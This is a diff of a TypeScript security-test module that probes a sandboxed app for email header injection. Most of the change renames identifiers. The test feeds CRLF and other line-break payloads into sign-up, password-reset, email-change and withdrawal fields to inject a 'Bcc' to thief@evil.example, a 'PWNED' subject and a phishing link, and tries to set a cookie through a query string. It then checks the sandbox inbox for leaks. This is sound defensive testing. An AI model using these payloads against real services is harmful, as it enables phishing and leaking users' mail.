@@ -1,8 +1,8 @@
 import { randomBytes } from 'node:crypto';
-import { type Attack, each } from '../attack.ts';
-import type { House } from '../house.ts';
+import { type Attack, forEachConcurrently } from '../attack.ts';
+import type { AttackEnvironment } from '../attack-environment.ts';
 import { newAddress, newMember } from '../member.ts';
-import { send } from '../send.ts';
+import { sendCall } from '../send-call.ts';
 
 interface Mail {
   to: string[];
@@ -10,11 +10,11 @@ interface Mail {
   text: string;
 }
 
-const breaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a'];
-const orders = (end: string) =>
+const lineBreaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a'];
+const injectedHeaders = (end: string) =>
   `${end}Bcc: thief@evil.example${end}Subject: PWNED${end}${end}Click https://evil.example`;
 
-async function mailsOf({ sandboxUrl }: House): Promise<Mail[]> {
+async function listMails({ sandboxUrl }: AttackEnvironment): Promise<Mail[]> {
   return (await (await fetch(`${sandboxUrl}/inbox.json`)).json()).mails;
 }
 
@@ -28,25 +28,28 @@ export const headerInjection: Attack = {
       return found;
     };
     const member = await newMember(house);
-    await each(breaks, 3, async (end) => {
+    await forEachConcurrently(lineBreaks, 3, async (end) => {
       const local = `mail-${randomBytes(4).toString('hex')}`;
       const own = `${local}@example.com`;
-      const profile = { fullName: `Tom${orders(end)}`.slice(0, 120) };
+      const profile = { fullName: `Tom${injectedHeaders(end)}`.slice(0, 120) };
       const password = 'correct horse';
       const asked = [
         ['authService.signUpWithEmail', { email: own, password, profile }],
-        ['authService.signUpWithEmail', { email: `${own}${orders(end)}`, password }],
+        ['authService.signUpWithEmail', { email: `${own}${injectedHeaders(end)}`, password }],
         ['authService.signUpWithEmail', { email: `${local},thief@evil.example`, password }],
         ['authService.signUpWithEmail', { email: `"a${end}"@example.com`, password }],
-        ['authService.resetPassword', { email: `${own}${orders(end)}`, resetUrl: `https://evil.example/${end}` }],
+        [
+          'authService.resetPassword',
+          { email: `${own}${injectedHeaders(end)}`, resetUrl: `https://evil.example/${end}` },
+        ],
         ['resendConfirmation', { email: `${own}, thief@evil.example` }],
-        ['requestEmailChange', { email: `${own}${orders(end)}`, currentPassword: member.password }],
-        ['withdraw', { contractId: 'in_1', name: `Tom${orders(end)}` }],
+        ['requestEmailChange', { email: `${own}${injectedHeaders(end)}`, currentPassword: member.password }],
+        ['withdraw', { contractId: 'in_1', name: `Tom${injectedHeaders(end)}` }],
       ] as const;
       for (const [name, payload] of asked) {
         const action = name.split('.')[1];
         const body = action ? { action, payload } : payload;
-        const { status, headers } = await send(house, route(name), { body }, member);
+        const { status, headers } = await sendCall(house, route(name), { body }, member);
         note(`${name} ${JSON.stringify(payload)} answered ${status}`, status > 0 && status < 500 && !headers.bcc);
       }
       const query = encodeURIComponent(`x${end}set-cookie: odd=1`);
@@ -55,7 +58,7 @@ export const headerInjection: Attack = {
       note(`${path} set a cookie`, !(answer.headers['set-cookie'] ?? []).join().includes('odd=1'));
     });
     await new Promise((resolve) => setTimeout(resolve, 1000));
-    for (const { to, subject, text } of await mailsOf(house)) {
+    for (const { to, subject, text } of await listMails(house)) {
       const clean = !to.join().includes('evil.example') && !subject.includes('PWNED') && !/evil\.example/.test(text);
       note(`a mail to ${to.join(', ')} says ${subject}: ${text.slice(0, 100)}`, clean);
     }
